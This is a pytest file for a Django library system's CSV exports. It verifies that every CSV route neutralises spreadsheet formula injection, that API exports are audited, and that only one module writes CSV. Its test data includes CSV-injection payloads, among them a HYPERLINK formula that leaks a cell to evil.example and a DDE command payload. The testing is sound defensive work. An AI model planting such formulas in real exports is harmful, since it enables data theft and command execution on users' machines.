"""SEC-CSV-1: no CSV the project answers holds a live spreadsheet formula.

The walk goes through every URL pattern Django knows (pages and the ninja API
alike), asks each GET route as a signed-in patron and as a staff
administrator, with and without ``?format=csv``, and reads every answer that
is ``text/csv``. The patron's data is hostile: titles and a name that start
like formulas, with the variants spreadsheets also run (full-width ``＝``,
a leading space, tab or ``@``).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.urls import URLPattern, URLResolver, get_resolver

from quietshelf.accounts.testing import make_staff, signed_in_client
from quietshelf.circulation import services
from quietshelf.core.csvfile import is_formula_like
from quietshelf.privacy import services as privacy_services
from quietshelf.privacy.models import AuditEntry
from tests.factories import BibRecordFactory

PASSWORD = "a long patron passphrase 7"  # noqa: S105 - test data
SRC = Path(__file__).resolve().parents[2] / "src" / "quietshelf"

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "\uff1dcmd|' /C calc'!A0",
    " +SUM(1,2)",
    "\t-2+3",
    "@SUM(A1)",
]
# Routes that end the session or change state on GET would spoil the walk for the rest.
SKIP_NAMES = re.compile(r"sign_out|logout|signout")


def _part(pattern) -> str:
    """One pattern's text without regex anchors (ninja's routes are regex patterns)."""
    return str(pattern).removeprefix("^").removesuffix("$").removesuffix("\\Z")


def _routes(resolver=None, prefix: str = "", name_prefix: str = ""):
    """(path, name) of every URL pattern without parameters."""
    resolver = resolver or get_resolver()
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{p.namespace}:" if p.namespace else ""
            yield from _routes(p, prefix + _part(p.pattern), name_prefix + ns)
        elif isinstance(p, URLPattern):
            route = prefix + _part(p.pattern)
            if re.search(r"[<(\[\\?*+]", route):
                continue  # a parameter: the routes that export CSV take none (the session says who)
            yield "/" + route, name_prefix + (p.name or "")


def _csv_answers(client, routes) -> dict[str, list[list[str]]]:
    found = {}
    for path, name in routes:
        if SKIP_NAMES.search(name):
            continue
        for url in (path, path + "?format=csv"):
            r = client.get(url)
            if r.status_code == 200 and r.get("Content-Type", "").startswith("text/csv"):
                found[url] = list(csv.reader(io.StringIO(r.content.decode("utf-8"))))
    return found


def test_every_csv_route_neutralises_formulas_sec_csv_1(client, circ, patron, item):
    p = patron(barcode="CSV-CARD-1", password=PASSWORD, family_name="=1+1 Lindqvist")
    privacy_services.give_consent(subject_id=p.subject_id, scope=services.READING_HISTORY)
    for title in HOSTILE_TITLES:
        it = item(record=BibRecordFactory(title=title))
        services.checkout(
            actor=None, item_barcode=it.barcode, patron_id=p.pk, branch_id=circ["north"].pk
        )
        services.checkin(actor=None, item_barcode=it.barcode, branch_id=circ["north"].pk)
    r = client.post("/account/sign-in/", {"identifier": "CSV-CARD-1", "password": PASSWORD})
    assert r.status_code == 302
    routes = sorted(set(_routes()))
    answers = _csv_answers(client, routes)
    admin = make_staff("csv-admin", superuser=True, roles=["administrator"])
    answers.update(_csv_answers(signed_in_client(admin), routes))

    # the walk reaches the exports we know of (a new one is walked too)
    assert {
        "/account/reading-history/export.csv",
        "/account/my-data/export.csv",
        "/api/v1/circulation/me/reading-history?format=csv",
    } <= set(answers)
    titles_seen = set()
    for url, rows in answers.items():
        for row in rows:
            for cell in row:
                assert not is_formula_like(cell), f"{url}: live formula {cell!r}"
                if cell.startswith("'"):
                    titles_seen.add(cell[1:])
    assert set(HOSTILE_TITLES) <= titles_seen  # the hostile titles were there, made inert


def test_api_csv_export_is_audited_like_the_portal_sec_csv_1(client, circ, patron, item):
    p = patron(barcode="CSV-CARD-2", password=PASSWORD)
    privacy_services.give_consent(subject_id=p.subject_id, scope=services.READING_HISTORY)
    it = item()
    services.checkout(
        actor=None, item_barcode=it.barcode, patron_id=p.pk, branch_id=circ["north"].pk
    )
    services.checkin(actor=None, item_barcode=it.barcode, branch_id=circ["north"].pk)
    client.post("/account/sign-in/", {"identifier": "CSV-CARD-2", "password": PASSWORD})
    before = AuditEntry.objects.filter(action="exported", object_id=str(p.pk)).count()
    r = client.get("/api/v1/circulation/me/reading-history?format=csv")
    assert r.status_code == 200
    entries = AuditEntry.objects.filter(action="exported", object_id=str(p.pk))
    assert entries.count() == before + 1
    entry = entries.order_by("-at").first()
    assert entry.actor_type == "patron" and entry.reason == "reading history csv"


def test_no_csv_writer_outside_the_core_module_sec_csv_1():
    """Every CSV goes through quietshelf.core.csvfile: no other module builds one."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "csvfile.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(SRC)))
        # only core.csvfile.csv_response answers text/csv (forms may name it as an upload type)
        if "text/csv" in text and path.name != "forms.py":
            offenders.append(str(path.relative_to(SRC)) + " (answers text/csv)")
    assert offenders == []
